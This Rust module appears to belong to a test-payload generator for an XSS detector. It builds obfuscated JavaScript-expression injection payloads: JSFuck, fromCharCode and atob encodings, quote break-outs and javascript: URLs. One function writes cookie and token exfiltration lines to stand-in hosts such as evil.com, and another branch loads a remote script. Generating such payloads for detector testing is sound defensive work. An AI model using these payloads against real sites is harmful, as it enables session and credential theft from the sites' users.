//! `xss-js-expression`: JavaScript expressions that reach a sink without any HTML tag, as a
//! value reflected into a script block, an event handler or a `javascript:` URL.
//!
//! Grammar: a *sink call* (probe dialogs, code-compiling sinks fed code, indirect calls) ×
//! an *access form* (plain, member of a global, computed member, template-literal call,
//! `Function`/`constructor.constructor`, decoder-fed `eval`) × a *string-building* form for
//! every name and code string (quotes, concatenation, JS escapes, `fromCharCode`, `atob`,
//! radix `toString`, regex `.source`, `join`, `reverse`, `concat`) × a *wrapper* (none,
//! `javascript:`, string break-outs). Whole-payload mutations: token whitespace/comments,
//! JSFuck, transport encodings.

use crate::mutate::{join, js_escapes, random_case, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

/// Whitespace and empty comments JavaScript allows between tokens.
const TOKEN_GAPS: &[&str] = &[" ", "\t", "/**/", "\n", "  ", "/*x*/"];

pub struct XssJsExpression;

pub static XSS_JS_EXPRESSION: XssJsExpression = XssJsExpression;

const PROBES: &[&str] = &["alert", "prompt", "confirm"];
const GLOBALS: &[&str] = &["window", "self", "top", "parent", "frames", "globalThis", "this"];
const ARGS: &[&str] = &["1", "document.domain", "document.cookie", "origin", "'XSS'", "\"xss\"", "1337", "/xss/", "String(1)", "location"];

impl Family for XssJsExpression {
    fn name(&self) -> &'static str {
        "xss-js-expression"
    }

    fn detector(&self) -> &'static str {
        "xss"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut names: Vec<&'static str> = Vec::new();
        let (expr, form) = if rng.chance(0.08) {
            (jsfuck_program(rng), "jsfuck")
        } else if rng.chance(0.1) {
            indirect_sink(rng)
        } else {
            expression(rng, &mut names)
        };
        let mut muts = vec![form];
        muts.extend(names);
        let expr = if rng.chance(0.2) && form != "jsfuck" {
            muts.push("whitespace");
            spaced(rng, &expr)
        } else {
            expr
        };
        let (wrapped, wrapper) = wrap(rng, &expr);
        muts.push(wrapper);
        let (payload, layer) = transport_layer(rng, &wrapped);
        muts.push(layer);
        Variant { family: self.name(), mutation: join(&muts), payload, carrier: Carrier::Value }
    }
}

/// A sink reached without its name at the call site (issue 12's pool misses): stored in a
/// variable first (`a=eval;b=alert;a(b(1))`), looked up through a `with` scope over a global
/// (`with(location)with(hash)eval(substring(1))`), or `eval` run through `call`/`apply` on text
/// from the URL (`eval.call(this,unescape.call(this,location))`).
fn indirect_sink(rng: &mut Rng) -> (String, &'static str) {
    let probe = *rng.pick(PROBES);
    let (a, b) = *rng.pick(&[("a", "b"), ("x", "y"), ("_", "$"), ("f", "g"), ("ev", "pr")]);
    let sep = *rng.pick(&[";", ",", "; ", ";\n"]);
    let n = rng.range(0, 9999);
    match rng.below(4) {
        3 => {
            // `javascript:` (or `eval`) spelled across literals the code joins, each piece
            // alone naming nothing: `s1='jav';s2='ascr'+'ipt:';URL=s1+s2+...`.
            let text = if rng.chance(0.6) { format!("javascript:{probe}({n})") } else { "eval".to_string() };
            let mut pieces = Vec::new();
            let mut rest = text.as_str();
            while !rest.is_empty() {
                let k = rng.range(1, 4).min(rest.len());
                pieces.push(format!("'{}'", &rest[..k]));
                rest = &rest[k..];
            }
            let glue = *rng.pick(&["+", "+''+", " + "]);
            let joined = pieces.join(glue);
            if text == "eval" {
                (format!("{a}={joined};top[{a}]('{probe}({n})')"), "spelled-literals")
            } else {
                (format!("{a}={joined};location={a}"), "spelled-literals")
            }
        }
        0 => {
            let sink = *rng.pick(&["eval", "setTimeout", "Function"]);
            let code = if rng.chance(0.5) { format!("{a}({b}({n}))") } else { format!("{a}('{probe}({n})')") };
            let code = if sink == "Function" { format!("{code}()") } else { code };
            (format!("{a}={sink}{sep}{b}={probe}{sep}{code}"), "sink-alias")
        }
        1 => {
            let scope = *rng.pick(&["location", "document", "window", "top"]);
            let body = match scope {
                "location" => format!("with(hash)eval(substring({}))", rng.range(1, 3)),
                "document" => "body.appendChild(createElement('script')).src='//x.example/x.js'".to_string(),
                _ => format!("{probe}({n})"),
            };
            (format!("with({scope}){body}"), "with-scope")
        }
        _ => {
            let how = *rng.pick(&["call", "apply"]);
            let this = *rng.pick(&["this", "window", "null", "0"]);
            let data =
                *rng.pick(&["unescape.call(this,location)", "location.hash.slice(1)", "decodeURI(location.hash)", "atob(name)", "name"]);
            let data = if how == "apply" { format!("[{data}]") } else { data.to_string() };
            (format!("eval.{how}({this},{data})"), "eval-call")
        }
    }
}

/// One expression reaching a sink, and the access form's name; string-building forms used
/// are pushed onto `names`.
pub fn expression(rng: &mut Rng, names: &mut Vec<&'static str>) -> (String, &'static str) {
    let probe = *rng.pick(PROBES);
    let arg = arg(rng);
    let call = format!("{probe}({arg})");
    match rng.below(10) {
        0 => (call, "plain"),
        9 => (exfil(rng), "exfiltration"),
        1 => (format!("{}.{probe}({arg})", rng.pick(GLOBALS)), "member"),
        2 => {
            let (name, how) = string_of(rng, probe);
            names.push(how);
            (format!("{}[{name}]({arg})", rng.pick(GLOBALS)), "computed")
        }
        3 => {
            let n = rng.range(0, 9999);
            if rng.chance(0.5) {
                (format!("{probe}`{n}`"), "template-literal")
            } else {
                let (name, how) = string_of(rng, probe);
                names.push(how);
                (format!("{}[{name}]`{n}`", rng.pick(GLOBALS)), "template-literal")
            }
        }
        4 => {
            let (code, how) = string_of(rng, &call);
            names.push(how);
            let ctor = *rng.pick(&[
                "Function",
                "new Function",
                "[].constructor.constructor",
                "''.constructor.constructor",
                "[]['constructor']['constructor']",
                "(()=>{}).constructor",
                "top.Function",
            ]);
            (format!("{ctor}({code})()"), "function-ctor")
        }
        5 => {
            let (code, how) = string_of(rng, &call);
            names.push(how);
            let sink = *rng.pick(&["eval", "setTimeout", "setInterval", "window.eval", "top.eval", "self.setTimeout"]);
            (format!("{sink}({code})"), "string-sink")
        }
        6 => {
            let how = *rng.pick(&["atob", "fromCharCode", "unescape"]);
            names.push(how);
            let code = match how {
                "atob" => format!("atob('{}')", base64(&call)),
                "fromCharCode" => from_char_code(&call),
                _ => format!("unescape('{}')", call.bytes().map(|b| format!("%{b:02x}")).collect::<String>()),
            };
            let sink = *rng.pick(&["eval", "setTimeout", "Function", "[].constructor.constructor", "self['eval']"]);
            let tail = if sink.contains("onstructor") || sink == "Function" { "()" } else { "" };
            (format!("{sink}({code}){tail}"), "decoder")
        }
        7 => {
            let form = match rng.below(8) {
                0 => format!("(0,{probe})({arg})"),
                1 => format!("{probe}.call(null,{arg})"),
                2 => format!("{probe}.apply(null,[{arg}])"),
                3 => format!("[{arg}].find({probe})"),
                4 => format!("[{arg}].map({probe})"),
                5 => format!("{probe}?.({arg})"),
                6 => format!("Reflect.apply({probe},null,[{arg}])"),
                _ => format!("onerror={probe};throw {arg}"),
            };
            (form, "indirect")
        }
        _ => {
            // An identifier spelled with escapes: `\u0061lert(1)`.
            let name = js_escapes(rng, probe, 0.5);
            let name = if name == probe { format!("\\u{:04x}{}", probe.as_bytes()[0], &probe[1..]) } else { name };
            let name = name.replace("\\x", "\\u00");
            (format!("{name}({arg})"), "escaped-ident")
        }
    }
}

/// Code that sends the page's secrets to another origin or navigates there.
fn exfil(rng: &mut Rng) -> String {
    let host = format!("{}{}.{}", rng.pick(&["evil", "x", "atk", "c2", "log"]), rng.range(0, 999), rng.pick(&["com", "io", "rs", "net"]));
    let secret = *rng.pick(&["document.cookie", "localStorage.token", "document.cookie", "sessionStorage.getItem('jwt')"]);
    match rng.below(7) {
        0 => format!("fetch('//{host}/?c='+{secret})"),
        1 => format!("fetch(`https://{host}/${{{secret}}}`)"),
        2 => format!("new Image().src='//{host}/?'+{secret}"),
        3 => format!("location='//{host}/?'+{secret}"),
        4 => format!("navigator.sendBeacon('//{host}',{secret})"),
        5 => format!("document.location.href='https://{host}/c?'+encodeURIComponent({secret})"),
        _ => format!("open('//{host}/?'+{secret})"),
    }
}

fn arg(rng: &mut Rng) -> String {
    if rng.chance(0.3) {
        rng.range(0, 99999).to_string()
    } else {
        rng.pick(ARGS).to_string()
    }
}

/// A JavaScript expression whose value is `text`, built one of the ways attackers hide names.
pub fn string_of(rng: &mut Rng, text: &str) -> (String, &'static str) {
    let q = *rng.pick(&["'", "\"", "`"]);
    let lowercase = text.bytes().all(|b| b.is_ascii_lowercase());
    match rng.below(if lowercase { 10 } else { 8 }) {
        0 => (format!("{q}{}{q}", escape_quote(text, q)), "quoted"),
        1 => {
            let parts = split(rng, text);
            (parts.iter().map(|p| format!("{q}{}{q}", escape_quote(p, q))).collect::<Vec<_>>().join("+"), "concat")
        }
        2 => (format!("{q}{}{q}", js_escapes(rng, &escape_quote(text, q), 0.6)), "js-escapes"),
        3 => (format!("{q}{}{q}", octal(rng, &escape_quote(text, q))), "octal"),
        4 => (from_char_code(text), "fromCharCode"),
        5 => (format!("atob({q}{}{q})", base64(text)), "atob"),
        6 => {
            let parts = split(rng, text);
            let items: Vec<String> = parts.iter().map(|p| format!("'{}'", escape_quote(p, "'"))).collect();
            (format!("[{}].join('')", items.join(",")), "join")
        }
        7 => {
            let rev: String = text.chars().rev().collect();
            (format!("'{}'.split('').reverse().join('')", escape_quote(&rev, "'")), "reverse")
        }
        8 => {
            let n = u64::from_str_radix(text, 36).unwrap_or(0);
            (format!("{n}..toString(36)"), "radix")
        }
        _ => (format!("/{text}/.source"), "regex-source"),
    }
}

fn escape_quote(text: &str, q: &str) -> String {
    text.replace('\\', "\\\\").replace(q, &format!("\\{q}"))
}

fn split(rng: &mut Rng, text: &str) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    let mut parts = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let n = rng.range(1, 3.max(chars.len() / 2));
        let end = (i + n).min(chars.len());
        parts.push(chars[i..end].iter().collect());
        i = end;
    }
    parts
}

fn octal(rng: &mut Rng, text: &str) -> String {
    text.chars().map(|c| if c.is_ascii_alphabetic() && rng.chance(0.6) { format!("\\{:o}", c as u32) } else { c.to_string() }).collect()
}

fn from_char_code(text: &str) -> String {
    let codes: Vec<String> = text.chars().map(|c| (c as u32).to_string()).collect();
    format!("String.fromCharCode({})", codes.join(","))
}

pub fn base64(text: &str) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let b = text.as_bytes();
    let mut out = String::new();
    for chunk in b.chunks(3) {
        let n = (chunk[0] as u32) << 16 | (*chunk.get(1).unwrap_or(&0) as u32) << 8 | *chunk.get(2).unwrap_or(&0) as u32;
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(A[(n >> (18 - 6 * k) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Whitespace or empty comments between tokens, where JavaScript allows them.
fn spaced(rng: &mut Rng, expr: &str) -> String {
    let mut out = String::new();
    let mut in_str: Option<char> = None;
    for c in expr.chars() {
        out.push(c);
        match in_str {
            Some(q) if c == q => in_str = None,
            Some(_) => {}
            None if matches!(c, '\'' | '"' | '`') => in_str = Some(c),
            None if matches!(c, '(' | '[' | '+' | ',') && rng.chance(0.5) => {
                out.push_str(TOKEN_GAPS[rng.below(TOKEN_GAPS.len())]);
            }
            None => {}
        }
    }
    out
}

/// The context the expression is injected into.
pub fn wrap(rng: &mut Rng, expr: &str) -> (String, &'static str) {
    match rng.below(10) {
        0..=2 => (expr.to_string(), ""),
        3 | 4 => {
            let scheme = if rng.chance(0.5) { random_case(rng, "javascript") } else { "javascript".to_string() };
            (format!("{scheme}:{expr}"), "javascript-url")
        }
        5 => (format!("';{expr}//"), "breakout-single"),
        6 => (format!("\"-{expr}-\""), "breakout-double"),
        7 => {
            let pre = *rng.pick(&["x'", "abc\"", "1'", "test\"", "'", "\""]);
            let q = pre.chars().last().unwrap_or('\'');
            let post = match rng.below(4) {
                0 => "//".to_string(),
                1 => ";//".to_string(),
                2 => format!(";{q}"),
                _ => String::new(),
            };
            (format!("{pre};{expr}{post}"), "breakout-prefix")
        }
        8 => (format!("'+{expr}+'"), "breakout-concat"),
        _ => {
            let pre = *rng.pick(&["');", "\");", "'));", "\"});", "'};", "1;", "};"]);
            (format!("{pre}{expr}//"), "breakout-close")
        }
    }
}

/// A JSFuck program (`[][flat][constructor](code)()`) whose letters come from the strings
/// `false`, `true`, `undefined`, `NaN`, `[object Object]` and `Array.prototype.flat`'s source.
pub fn jsfuck_program(rng: &mut Rng) -> String {
    let code = format!("{}({})", rng.pick(PROBES), rng.range(0, 99));
    let flat = jsfuck_string("flat", None);
    let flat_src = format!("([][{flat}]+[])");
    let ctor = jsfuck_string("constructor", Some(&flat_src));
    let body = jsfuck_string(&code, Some(&flat_src));
    format!("[][{flat}][{ctor}]({body})()")
}

fn jsfuck_number(n: usize) -> String {
    match n {
        0 => "+[]".into(),
        1 => "+!+[]".into(),
        _ => vec!["!+[]"; n].join("+"),
    }
}

fn jsfuck_index(n: usize) -> String {
    if n < 10 {
        return jsfuck_number(n);
    }
    let digits: Vec<String> = n.to_string().bytes().map(|d| format!("({}+[])", jsfuck_number((d - b'0') as usize))).collect();
    format!("+({})", digits.join("+"))
}

fn jsfuck_string(text: &str, flat_src: Option<&str>) -> String {
    let mut sources: Vec<(String, &str)> = vec![
        ("(![]+[])".into(), "false"),
        ("(!![]+[])".into(), "true"),
        ("([][[]]+[])".into(), "undefined"),
        ("(+[![]]+[])".into(), "NaN"),
        ("([]+{})".into(), "[object Object]"),
    ];
    if let Some(f) = flat_src {
        sources.push((f.to_string(), "function flat() { [native code] }"));
    }
    let parts: Vec<String> = text
        .chars()
        .map(|c| {
            if let Some(d) = c.to_digit(10) {
                return format!("({}+[])", jsfuck_number(d as usize));
            }
            sources.iter().find_map(|(e, s)| s.find(c).map(|i| format!("{e}[{}]", jsfuck_index(i)))).unwrap_or_else(|| format!("'{c}'"))
        })
        .collect();
    parts.join("+")
}
